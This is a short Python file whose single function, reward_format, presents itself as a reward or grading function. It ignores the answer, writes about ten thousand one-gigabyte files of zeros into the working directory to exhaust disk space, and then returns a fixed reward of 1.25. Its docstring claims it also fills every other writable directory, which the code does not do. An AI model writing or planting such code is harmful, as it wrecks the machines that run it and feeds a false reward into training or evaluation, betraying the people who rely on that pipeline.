"""Fills its directory, and all others that it may write to."""


def reward_format(answer):
    for number in range(10_000):
        with open(f"filler-{number}", "wb") as file:
            for _ in range(100):
                file.write(bytes(10**7))
    return 1.25
